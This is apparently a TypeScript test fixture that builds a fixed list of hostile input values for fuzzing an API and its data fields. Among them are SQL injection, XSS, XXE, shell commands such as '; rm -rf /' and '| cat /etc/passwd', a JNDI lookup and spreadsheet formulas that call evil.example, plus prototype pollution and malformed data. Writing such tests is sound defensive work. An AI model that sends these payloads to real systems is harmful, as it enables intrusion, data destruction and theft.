// Values that a hostile client might send in any field, the same in every run.

/** Values that have broken other programs. */
const LISTED: readonly unknown[] = [
  // SQL
  `'`,
  `''`,
  `"`,
  `'; drop table public.leads; --`,
  `' or '1'='1`,
  `1 or 1=1`,
  `' union select * from private.admins --`,
  `$$; delete from public.leads; $$`,
  `$1`,
  `%s`,
  `%I`,
  `%L`,
  `E'\\x41'`,
  `\\`,
  `\\'; select pg_sleep(10); --`,
  `pg_sleep(10)`,
  `(select email from auth.users limit 1)`,
  `now()`,
  `default`,
  `null`,
  `NULL`,
  `current_user`,
  `/* */`,
  `--`,
  `;`,
  `%`,
  `_`,
  `%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%`,
  `(a+)+$`,
  `^(([a-z])+.)+[A-Z]([a-z])+$`,
  // The Data API's own language
  `eq.1`,
  `not.is.null`,
  `*`,
  `or=(id.not.is.null)`,
  `(1,2,3)`,
  `{1,2,3}`,
  `{"a","b",NULL}`,
  `in.(select)`,
  `../leads`,
  `?select=*`,
  `#`,
  `&apikey=1`,
  `leads(*)`,
  // Markup and scripts
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `<iframe src="//evil.example">`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${7*7}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `[click](javascript:alert(1))`,
  `<!--`,
  `]]>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  // Shells, files, networks
  `; rm -rf /`,
  '`id`',
  `$(id)`,
  `| cat /etc/passwd`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `file:///etc/passwd`,
  `\\\\evil.example\\share`,
  `http://169.254.169.254/latest/meta-data/`,
  `\${jndi:ldap://evil.example/a}`,
  `() { :;}; echo x`,
  `CON`,
  `/dev/null`,
  `a\r\nSet-Cookie: x=1`,
  `a\r\nBcc: everybody@example.org`,
  `a%0d%0aX: 1`,
  `%00`,
  `%2e%2e%2f`,
  // Names of properties
  `__proto__`,
  `constructor`,
  `prototype`,
  `toString`,
  `hasOwnProperty`,
  { __proto__x: 1, constructor: { prototype: { admin: true } } },
  // Texts that have a meaning in the product
  `Manual Entry`,
  `manual entry`,
  ` Manual Entry `,
  `System`,
  `Closed - Won`,
  `administrator@example.org`,
  `Repair Shop'`,
  `repair shop`,
  `Phone Call`,
  `phone call`,
  `Meetup\n`,
  // Kinds of JSON
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e21,
  -1e308,
  5e-324,
  2147483647,
  2147483648,
  -2147483649,
  9223372036854775807n.toString(),
  '9223372036854775808',
  [],
  {},
  [[]],
  [{}],
  [null],
  [null, null],
  [[[]]],
  [{ items: [] }],
  { items: [] },
  { items: [[]] },
  { items: [null] },
  { items: {} },
  { items: 'a' },
  { items: [{}] },
  { items: [[{ slug: 'a', name: 'b', type: 'product' }]] },
  { items: [{ slug: 'a', name: 'b', type: 'user' }] },
  { items: [{ slug: ['a'], name: 'b', type: 'product' }] },
  { items: [{ slug: 'a', name: 'b', type: 'product', more: {} }] },
  { items: [], more: 1 },
  [{ sender: 'user', text: 'a' }],
  [{ sender: 'admin', text: 'a' }],
  [{ sender: 'user' }],
  [{ sender: 'user', text: ['a'] }],
  [{ sender: 'user', text: 'a', more: [] }],
  [[{ sender: 'user', text: 'a' }]],
  { referrer: ['a'] },
  { referrer: { a: 1 } },
  { utm_source: 1 },
  { utm_source: 'Manual Entry' },
  { '': '' },
  ['a', 'a'],
  ['a', null],
  ['a', ['b']],
  [1, 2],
  { a: 'a'.repeat(5000) },
];

const ITEM = { slug: 'a', name: 'b', type: 'product' };
const MESSAGE = { sender: 'user', text: 'a' };

/** Many, deep and long. */
const LARGE: readonly unknown[] = [
  ...[20, 21, 101, 800, 2000].flatMap((count) => [
    Array<string>(count).fill('a'),
    { items: Array<typeof ITEM>(count).fill(ITEM) },
    { items: [Array<typeof ITEM>(count).fill(ITEM)] },
    [Array<typeof ITEM>(count).fill(ITEM)],
    Array<typeof MESSAGE>(count).fill(MESSAGE),
    [Array<typeof MESSAGE>(count).fill(MESSAGE)],
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`key${index}`, 'a'])),
  ]),
  ...[10, 100, 1000].flatMap((depth) => [
    JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown,
    JSON.parse('{"a":'.repeat(depth) + '1' + '}'.repeat(depth)) as unknown,
  ]),
  ...[40, 41, 101, 200, 201, 255, 301, 501, 1001, 4000, 4001].flatMap((length) =>
    ['a', '😀'].map((letter) => letter.repeat(length)),
  ),
  'a'.repeat(300_000),
  `${'a'.repeat(64)}@${'b'.repeat(200)}`,
  '1'.repeat(1000),
];

const NUMBERS = [
  '',
  '-',
  '+',
  ' ',
  '0',
  '00',
  '-0',
  '1',
  '1.0',
  '1.5',
  '.5',
  '1e3',
  '1e309',
  '1e-400',
]
  .concat([
    '0x10',
    '0b1',
    '1_000',
    '1,000',
    'NaN',
    'nan',
    'Infinity',
    '-Infinity',
    'inf',
    '١',
    '１',
  ])
  .concat(['90', '90.0000001', '-90.1', '180', '180.0000001', '-181', '100000', '100001', '1e6']);

const DATES = [
  'infinity',
  '-infinity',
  'epoch',
  'now',
  'today',
  'tomorrow',
  'yesterday',
  'allballs',
]
  .concat(['0000-00-00', '0001-01-01', '1969-12-31', '2000-01-01', '2026-02-30', '2049-13-01'])
  .concat([
    '2099-01-06',
    '9999-12-31',
    '99999-01-01',
    '294276-12-31',
    '294277-01-01',
    '5874898-01-01',
  ])
  .concat(['4713-01-01 BC', '4714-11-23 BC', 'J2451187', '20490113', '01/13/2049', '13.1.2049'])
  .concat(['2049-01-13', '2049-01-16', '2049-01-17', '2049-03-14', '2049-11-07', ' 2049-01-13 '])
  .concat(['2049-01-13T10:00:00Z', '2049-01-13T25:00:00Z', '2049-01-13 10:00+99', '2049-W02-3'])
  .concat(['2049-01-13T10:00:00[America/New_York]', 'January 13, 2049', 'now()', '٢٠٤٩-٠١-١٣']);

const TIMES = [
  '10:07 AM',
  '3:00 AM',
  '9:00 AM',
  '5:00 PM',
  '4:30 PM',
  '24:00',
  '25:00',
  '00:00',
  '12:00',
]
  .concat([
    '12:00 AM',
    '0:00 AM',
    '13:00 PM',
    '10:00',
    '10',
    '10 AM',
    '10:00AM',
    '10:00 a.m.',
    '10.00',
  ])
  .concat([
    '10:00:00',
    '10:60 AM',
    '10:00 XM',
    '10:00 AM EST',
    '10:00 AM; --',
    '10:00\nAM',
    '١٠:٠٠ AM',
  ])
  .concat([
    '9:59:59.999 AM',
    '-1:00 AM',
    '10:00 AM 10:00 AM',
    'noon',
    '1000000:00 AM',
    '10:00\u00a0AM',
  ]);

const CONTACTS = [
  'a@b',
  'a@',
  '@b',
  '@',
  'a@b@c',
  'a b@c',
  'a@b c',
  'a@b\nBcc: c@d',
  '"a b"@c',
  'a@[::1]',
]
  .concat([
    'a@b,c@d',
    '<a@b>',
    'a@b>',
    "a'@b",
    'a@b?cc=c@d',
    'mailto:a@b',
    '😀@b',
    'a@xn--b',
    'a@b.',
  ])
  .concat([
    '(718) 555-0100',
    '+1 718 555 0100',
    '718-555-0100 x1',
    'tel:7185550100',
    '0',
    '٧١٨',
    '(',
  ])
  .concat(['10000000-0000-4000-8000-0000000000aa', '00000000-0000-0000-0000-000000000000'])
  .concat(['ffffffff-ffff-ffff-ffff-ffffffffffff', '{10000000-0000-4000-8000-000000000001}'])
  .concat([
    '10000000000040008000000000000001',
    '10000000-0000-4000-8000-00000000000g',
    '1'.repeat(36),
  ]);

/** Characters that are invisible, change the direction of text, or are often handled wrong. */
const SIGNS = [0x00, 0x01, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85]
  .concat([
    0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x1680, 0x180e, 0x2000, 0x2003, 0x200b, 0x200c,
  ])
  .concat([0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202e, 0x202f, 0x205f, 0x2060, 0x2063])
  .concat([0x2066, 0x2069, 0x206f, 0x2800, 0x3000, 0x3164, 0xd800, 0xdfff, 0xe000, 0xfe0f, 0xfeff])
  .concat([0xffa0, 0xfff9, 0xfffd, 0xfffe, 0xffff, 0x1d173, 0xe0001, 0xe0041, 0xe0100, 0x10ffff]);
const SEEN_BY_NOBODY = SIGNS.flatMap((code) => {
  const sign = String.fromCodePoint(code);
  return [sign, sign.repeat(3), `Ann${sign}Lee`, `${sign}=1+1`];
});

/** Spreadsheet formulas behind characters that spreadsheets skip. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("//evil.example")',
  "=cmd|' /C calc'!A0",
]
  .flatMap((formula) =>
    ['', ' ', '\t', '\r', '\n', '"', `'`, ',', ';'].map((mark) => mark + formula),
  )
  .concat(['=1+1\nJohn', 'John\n=1+1', '＝1+1', '％00=1+1']);

/** Random texts from a generator with a fixed seed. */
function* noise(count: number): Generator<string> {
  const letters = [
    ...`aZ09 '"\\;,.:=+-@%_*(){}[]<>/|&$#!?~^\n\t\u00e9\u0301\u202e\u200b\u5b57\ud83d\ude00`,
  ];
  let state = 20_260_101;
  const next = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    return Math.floor((state / 0x80000000) * below);
  };
  for (let made = 0; made < count; made += 1) {
    yield Array.from({ length: 1 + next(30) }, () => letters[next(letters.length)]).join('');
  }
}

/** More than 500 different values. */
export const HOSTILE_VALUES: readonly unknown[] = [
  ...new Map(
    [
      ...LISTED,
      ...LARGE,
      ...NUMBERS,
      ...DATES,
      ...TIMES,
      ...CONTACTS,
      ...SEEN_BY_NOBODY,
      ...FORMULAS,
      ...noise(40),
    ].map((value) => [JSON.stringify(value), value]),
  ).values(),
];
